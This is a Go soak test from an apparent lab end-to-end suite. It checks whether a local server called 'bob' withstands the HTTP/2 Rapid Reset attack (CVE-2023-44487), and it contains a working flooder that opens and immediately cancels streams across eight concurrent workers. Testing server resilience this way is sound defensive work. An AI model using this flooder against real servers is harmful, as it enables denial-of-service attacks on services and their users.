//go:build lab && soak

package e2e

import (
	"bytes"
	"context"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resets opens streams and takes each back at once (CVE-2023-44487): what was asked may go on behind the door while the
// consumer, who holds nothing open, asks for more.
func (h *hostile) resets(t *testing.T) {
	var asked, cut atomic.Int64
	h.endure(func() {
		ctx, cancel := context.WithTimeout(t.Context(), 15*time.Second)
		defer cancel()
		var crowd sync.WaitGroup
		for range 8 {
			crowd.Go(func() {
				for ctx.Err() == nil {
					asked.Add(h.resetting(ctx))
					cut.Add(1)
				}
			})
		}
		crowd.Wait()
	})
	t.Logf("%d streams were opened and reset, on %d connections", asked.Load(), cut.Load())
	if asked.Load() < 1000 {
		t.Errorf("only %d streams were opened: this shows nothing", asked.Load())
	}
	if a := h.ask("GET", h.in("secrets"), ""); a.code != 200 && a.code != 429 {
		t.Errorf("afterwards: %d %.200s %v", a.code, a.text, a.err)
	}
}

// resetting does so on one connection until bob cuts it, and says how often.
func (h *hostile) resetting(ctx context.Context) (asked int64) {
	conn, err := h.dial(ctx, "h2")
	if err != nil {
		time.Sleep(50 * time.Millisecond) // too many connections: another one in a moment
		return 0
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return 0
	}
	framer := http2.NewFramer(conn, conn)
	if framer.WriteSettings() != nil {
		return 0
	}
	go func() { // what bob says is read and forgotten, so that he can go on
		for {
			if _, err := framer.ReadFrame(); err != nil {
				conn.Close()
				return
			}
		}
	}()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for stream := uint32(1); ; stream += 2 {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "bob"}, {":path", h.in("secrets")}} {
			if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
				return asked
			}
		}
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
			framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return asked
		}
		asked++
	}
}
